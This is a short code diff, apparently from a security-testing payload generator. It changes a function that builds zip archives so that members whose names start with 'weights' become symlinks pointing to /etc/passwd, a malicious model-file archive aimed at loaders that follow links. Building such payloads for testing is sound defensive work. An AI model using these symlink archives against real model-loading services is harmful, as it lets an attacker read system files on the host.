@@ -89,7 +89,7 @@ def places(model: Model, payload: Payload) -> Iterator[bytes]:
         for name, data in model.members().items():
             link = zipfile.ZipInfo(name)
             link.external_attr = (stat.S_IFLNK | 0o777) << 16
-            archive.writestr(link, data if name != "weights.npy" else b"/etc/passwd")
+            archive.writestr(link, b"/etc/passwd" if name.startswith("weights") else data)
     yield buffer.getvalue()
 
 
